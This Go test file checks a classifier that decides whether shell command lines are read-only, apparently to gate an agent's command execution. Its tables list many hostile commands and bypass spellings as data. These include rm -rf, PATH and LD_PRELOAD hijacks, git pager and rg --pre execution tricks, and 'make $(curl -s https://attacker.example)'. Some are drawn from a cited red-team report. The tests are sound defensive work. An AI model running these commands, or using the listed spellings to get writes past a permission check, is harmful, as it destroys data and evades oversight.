package shell

import "testing"

func TestReadOnlyCommand(t *testing.T) {
	tests := []struct {
		line string
		want bool
	}{
		// plainly read-only
		{"ls -la", true},
		{"cat a.go | head -n 20 | wc -l", true},
		{"rg -n TODO --glob '*.go'", true},
		{"grep -rn foo . 2>/dev/null", true},
		{"find . -name '*.go' -type f", true},
		{"git status", true},
		{"git --no-pager log --oneline -5", true},
		{"git -C sub diff --stat", false}, // -C may name an embedded bare repository
		{"git branch --list 'feat/*'", true},
		{"git branch -a", true},
		{"go version && go env GOPATH && go list ./...", true},
		{"cd sub && pwd && ls", true},
		{"for f in *.go; do wc -l $f; done", true},
		{"echo $(git rev-parse HEAD)", true},
		{"LC_ALL=C sort -u names.txt", true},
		{"cat < input.txt 2>&1", true},
		{"sort a | uniq -c", true},
		{"date +%s", true},
		{"fd -e go", true},
		{"x=1; echo $x", true},

		// writes or runs something
		{"rm -rf x", false},
		{"git status && rm -rf x", false},
		{"git status; $(echo rm) -rf x", false},
		{`eval "rm -rf x"`, false},
		{"X=rm; $X -rf x", false},
		{"git status | sh", false},
		{"echo hi > out.txt", false},
		{"ls >> log", false},
		{"ls &> all.txt", false},
		{"ls >&file", false},
		{"cat a <> b", false},
		{"find . -delete", false},
		{"find . -name x -exec rm {} ;", false},
		{"find . -execdir ls ;", false},
		{"find . -fprint out", false},
		{"find . $ARGS", false},
		{"find . *", false},
		{"rg --pre ./evil foo", false},
		{"rg --pre=./evil foo", false},
		{"fd -x rm", false},
		{"fd -Hx rm", false},
		{"fd --exec rm", false},
		{"sort -o out in", false},
		{"sort -uo out in", false},
		{"uniq in out", false},
		{"tree -o out", false},
		{"date -s 2020-01-01", false},
		{"date 010112002020", false},
		{"hostname newname", false},
		{"env rm -rf x", false},
		{"command rm x", false},
		{"git -c core.pager=evil log", false},
		{"git --exec-path=/tmp status", false},
		{"git commit -m x", false},
		{"git branch newbranch", false},
		{"git branch -D main", false},
		{"git tag v1", false},
		{"git diff --output=patch", false},
		{"git diff --ext-diff", false},
		{"git stash", false},
		{"git config user.name x", false},
		{"go env -w GOFLAGS=-x", false},
		{"go list -toolexec ./evil ./...", false},
		{"go build ./...", false},
		{"GIT_CONFIG_COUNT=1 git status", false},
		{"PATH=.:$PATH ls", false},
		{"export PATH=/tmp; ls", false},
		{"LD_PRELOAD=x.so ls", false},
		{": ${PATH:=/tmp}", false},
		{"./ls", false},
		{"/bin/ls", false},
		{"coproc ls", false},
		{"alias ls='rm -rf x'", false},
		{"source script.sh", false},
		{"ls; (rm x)", false},
		{"echo 'unterminated", false},
		{"", false},
	}
	tests = append(tests, redTeamReadOnly...)
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			if got := ReadOnlyCommand(tt.line, judged(Classifier(nil))); got != tt.want {
				t.Errorf("ReadOnlyCommand(%q) = %v, want %v", tt.line, got, tt.want)
			}
		})
	}
}

// redTeamReadOnly are the lines of the red-team report (issue 18, items 1
// and 2) that were called read-only and were not, and their neighbours:
// other spellings, abbreviations, attached values, negations.
var redTeamReadOnly = []struct {
	line string
	want bool
}{
	// git grep runs its "pager" through a shell.
	{`git grep "-Otouch /tmp/x;" needle`, false},
	{"git grep -Orm needle", false},
	{"git grep -O needle", false},
	{"git grep -nO needle", false},
	{"git grep --open-files-in-pager=rm needle", false},
	{"git grep --open=rm needle", false},
	{"git grep --open-files needle", false},
	{"git grep --textconv needle", false},
	{"git grep -n needle", true},
	{"git grep --line-n needle", true}, // a unique prefix of --line-number
	{"git grep -e -Orm", true},         // -e takes -Orm as its pattern, as git does
	// --no-get cancels --get: the line sets the key.
	{"git config --get --no-get core.fsmonitor CMD", false},
	{"git config --get --no-g core.fsmonitor CMD", false},
	{"git config core.fsmonitor --get", false}, // options end at the first operand: sets the key to --get
	{"git config core.fsmonitor CMD", false},
	{"git config --get-all --get core.pager", false},
	{"git config --unset core.pager", false},
	{"git config --get core.pager", true},
	{"git config --get-reg core", true},
	{"git config -l", true},
	{"git config user.name", true},
	// git remote's subcommands write.
	{"git remote -v add evil https://example.invalid/x", false},
	{"git remote --verbose set-url evil file:///tmp", false},
	{"git remote --verb rename a b", false},
	{"git remote", true},
	{"git remote -v", true},
	{"git remote get-url origin", true},
	// diff output options write files.
	{"git reflog -p --output=F", false},
	{"git reflog show -p --output F", false},
	{"git reflog expire --all", false},
	{"git reflog delete HEAD@{0}", false},
	{"git stash show -p --output=F", false},
	{"git stash list -p --output=F", false},
	{"git stash", false},
	{"git stash -p", false},
	{"git log --outpu=F", false},
	{"git diff --ext-diff", false},
	{"git log --show-signature", false},
	{"git show --textconv HEAD", false},
	{"git reflog -p", true},
	{"git stash list", true},
	{"git stash show -p", true},
	// GNU getopt_long abbreviations select the option they abbreviate.
	{"sort --outp=F in", false},
	{"sort --o=F in", false},
	{"sort -S 100k --compress-prog=sh cmds", false},
	{"sort --compress=sh in", false},
	{"sort -T /tmp in", false},
	{"sort -uoF in", false},
	{"sort --rev in", true},
	{"file --comp", false},
	{"file -C -m magic", false},
	{"file -z f", false},
	{"file --brief f", true},
	{"hostname --fil=/nonexistent", false},
	{"hostname -F f", false},
	{"hostname name", false},
	{"hostname -f", true},
	{"date --se=x", false},
	{"date --s=x", false},
	{"date -s x", false},
	{"date +%s -s x", false},
	{"date -u +%s", true},
	{"uniq in -c", false}, // under POSIXLY_CORRECT -c would be the output file
	// global git options.
	{"git -C dir status", false},
	{"git -c core.pager=sh log", false},
	{"git --exec-path=/tmp status", false},
	{"git --git-dir=evil status", false},
	{"git --work-tree=.. status", false},
	{"git --config-env=core.pager=X log", false},
	{"git -p log", false},
	{"git --paginate log", false},
	{"git --bare status", false},
	{"git --namespace=x log", false},
	{"git --no-pager status", true},
	{"git --version", true},
	{"git help log", false}, // runs man and a pager
	// PATH hijack and the other variables a builtin can assign.
	{"read PATH <<< dir; cat f", false},
	{"read -r IFS <<< x; ls", false},
	{"read x PATH <<< 'a b'; ls", false},
	{"read; echo $REPLY", true},
	{"read -r line <<< x; echo $line", true},
	{"getopts ab PATH", false},
	{"getopts ab opt", true},
	{"printf -v PATH %s dir; cat f", false},
	{"printf -v x %s dir; echo $x", true},
	{"a=-v; printf $a PATH dir", false},
	{"mapfile PATH < f", false},
	{"readarray -t lines < f", false},
	{"declare PATH=dir; cat f", false},
	{"declare -n ref=PATH; ref=dir; cat f", false},
	{"export BASH_ENV=x; ls", false},
	{"local ENV=x", false},
	{"typeset CDPATH=x; cd a", false},
	{"let PATH=1", false},
	{"(( IFS = 1 )); ls", false},
	{"echo $(( LD_PRELOAD = 1 ))", false},
	{"(( GIT_DIR++ )); git status", false},
	{"for PATH in dir; do cat f; done", false},
	{"select PATH in dir; do cat f; done", false},
	{"echo ${PATH:=dir}; cat f", false},
	{"echo ${PATH=dir}", false},
	{"echo ${!x:=dir}", false},
	{"unset PATH; cat f", false},
	{"unset -v IFS", false},
	{"http_proxy=x git status", false},
	{"POSIXLY_CORRECT=1 uniq a -c", false},
	{"declare -a arr=(a b); echo ${arr[0]}", true},
	{"for f in a b; do echo $f; done", true},
	{"(( i++ )); echo $i", true},
	// non-literal words only for programs none of whose options write.
	{"sort $opts in", false},
	{"sort *", false},
	{"git log $x", false},
	{"cat $f *.go", true},
}

// TestReadOnlyExtraEntries holds the operator's entries ([exec]
// low_risk_commands) to what they name: a command spelled as the entry's
// words, alone on its line. Another spelling of the program, or the entry
// inside a compound, redirected or assigning line, is not read-only by the
// entry; the built-in list still judges such lines.
func TestReadOnlyExtraEntries(t *testing.T) {
	classify := judged(Classifier([]string{"make", "npm ls", "cargo tree", "/usr/bin/make", "FOO=1 make", "  "}))
	tests := []struct {
		name string
		line string
		want bool
	}{
		{"entry alone", "make", true},
		{"entry with arguments it did not name", "make lint -j4", true},
		{"entry quoted is the same words", "'make' \"lint\"", true},
		{"two-word entry", "npm ls --depth 0", true},
		{"two-word entry, other subcommand", "npm install", false},
		{"a prefix of an entry", "npm", false},
		{"after a semicolon", "make; rm -rf x", false},
		{"both sides entries", "make && make", false},
		{"in a pipeline", "cargo tree | head", false},
		{"after a read-only command", "ls; make", false},
		{"in a subshell", "(make)", false},
		{"in a command substitution", "echo $(make)", false},
		{"with a command substitution argument", "make $(curl -s https://attacker.example)", false},
		{"with a variable argument", "make $TARGET", false},
		{"with a glob argument", "make *", false},
		{"with an assignment", "FOO=1 make", false},
		{"with a lower-case assignment", "foo=1 make", false},
		{"redirected into a file", "make > .git/config", false},
		{"appending to a file", "make >> out.txt", false},
		{"redirected to /dev/null", "make > /dev/null", false},
		{"with a descriptor duplication", "make 2>&1", false},
		{"in the background", "make &", false},
		{"negated", "! make", false},
		{"through the command builtin", "command make", false},
		{"through env", "env make", false},
		{"through exec", "exec make", false},
		{"by absolute path, even when an entry spells it", "/usr/bin/make", false},
		{"by relative path", "./make", false},
		{"an entry with an assignment matches nothing", "FOO=1 make", false},
		{"a blank entry matches nothing", "rm -rf x", false},
		{"built-in list still works in compounds", "git status && ls -la | head", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ReadOnlyCommand(tt.line, classify); got != tt.want {
				t.Errorf("ReadOnlyCommand(%q) = %v, want %v", tt.line, got, tt.want)
			}
		})
	}
}

// judged is a classifier's judgement alone, as ReadOnlyCommand takes it.
func judged(classify func([]string) (bool, string)) func([]string) bool {
	return func(argv []string) bool {
		ok, _ := classify(argv)
		return ok
	}
}

// TestClassifierNamesTheEntry: the classifier names the operator's entry
// that made a command read-only, as written, and names none where the
// built-in list accepts the command anyway or nothing does.
func TestClassifierNamesTheEntry(t *testing.T) {
	classify := Classifier([]string{"make", "npm ls", "make -s test", "git"})
	for _, c := range []struct {
		argv []string
		ok   bool
		by   string
	}{
		{[]string{"make", "lint"}, true, `low_risk_commands entry "make"`},
		{[]string{"npm", "ls", "--depth", "0"}, true, `low_risk_commands entry "npm ls"`},
		{[]string{"git", "status"}, true, ""}, // the built-in list rates it without the entry
		{[]string{"git", "push"}, true, `low_risk_commands entry "git"`},
		{[]string{"rm", "-rf", "x"}, false, ""},
		{[]string{"/usr/bin/make"}, false, ""},
	} {
		ok, by := classify(c.argv)
		if ok != c.ok || by != c.by {
			t.Errorf("%q: (%v, %q), want (%v, %q)", c.argv, ok, by, c.ok, c.by)
		}
	}
}

// TestReadOnlyCommandClassifierDecides shows the classifier has the last
// word on every command: one stricter than the built-in list narrows lines
// the list accepts, alone or in a compound, and none accepts nothing.
func TestReadOnlyCommandClassifierDecides(t *testing.T) {
	noCat := func(argv []string) bool { return argv[0] != "cat" && ReadOnlyArgv(argv, nil) }
	for _, line := range []string{"cat go.mod", "ls | cat", "echo $(cat .env)"} {
		if ReadOnlyCommand(line, noCat) {
			t.Errorf("%q is read-only under a classifier that refuses cat", line)
		}
		if !ReadOnlyCommand(line, judged(Classifier(nil))) {
			t.Errorf("%q is not read-only under the built-in list", line)
		}
		if ReadOnlyCommand(line, nil) {
			t.Errorf("%q is read-only with no classifier", line)
		}
	}
}

func TestReadOnlyArgv(t *testing.T) {
	tests := []struct {
		argv []string
		want bool
	}{
		{[]string{"git", "status"}, true},
		{[]string{"ls", "-la", "$(rm)"}, true}, // at run time words are values, not code
		{[]string{"./ls"}, false},
		{[]string{"GIT_CONFIG_COUNT=1", "git", "status"}, false},
		{[]string{"rm", "x"}, false},
		{[]string{"git", "grep", "-Orm", "needle"}, false},
		{[]string{"sort", "--outp=F"}, false},
		{[]string{"sort", "--", "--output=F"}, true}, // an operand, as sort sees it
		{[]string{"read", "PATH"}, false},
		{nil, false},
	}
	for _, tt := range tests {
		if got := ReadOnlyArgv(tt.argv, nil); got != tt.want {
			t.Errorf("ReadOnlyArgv(%q) = %v, want %v", tt.argv, got, tt.want)
		}
	}
}
